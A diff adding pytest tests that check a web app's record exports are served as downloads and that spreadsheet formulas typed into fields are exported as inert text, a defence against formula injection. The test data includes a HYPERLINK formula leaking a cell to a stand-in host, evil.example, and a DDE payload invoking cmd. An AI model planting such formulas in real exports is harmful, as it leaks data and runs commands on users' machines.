@@ -2,6 +2,9 @@
 reaches; a ``javascript:`` address is never accepted, and never a live link."""
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from hostile import XSS_PAYLOADS, assert_no_injected_markup, page_of, records_in, shows
@@ -77,3 +80,29 @@ def test_a_web_address_with_quotes_and_markup_stays_one_inert_link(client):
     page = assert_no_injected_markup(client.get(record))
     [link] = [a for a in page.select("main a") if a.get_text() == address]
     assert link["href"] == address and link["rel"] == ["noopener", "noreferrer"]
+
+
+FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1:A9)")
+
+
+@pytest.mark.parametrize("fmt, mimetype", [("csv", "text/csv"), ("json", "application/json"),
+                                           ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
+def test_an_export_is_a_download_never_a_page(client, fmt, mimetype):
+    save_hostile_record(client, XSS_PAYLOADS[0])
+    response = client.get(BASE + "export", query_string={"format": fmt})
+    assert response.status_code == 200
+    assert response.mimetype == mimetype
+    assert response.headers["Content-Disposition"].startswith("attachment;")
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+    assert "no-store" in response.headers["Cache-Control"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_typed_into_a_field_is_exported_as_text(app, client, formula):
+    client.post(BASE + "new", data=project(title=formula, lead=formula, keywords=formula))
+    assert records_in(app)[0].values["title"] == formula
+    csv_text = client.get(BASE + "export", query_string={"format": "csv"}).get_data(as_text=True)
+    header, *rows = csv.reader(io.StringIO(csv_text.lstrip("\ufeff")))
+    cells = dict(zip(header, rows[0]))
+    assert cells["Project title"] == cells["Project lead"] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
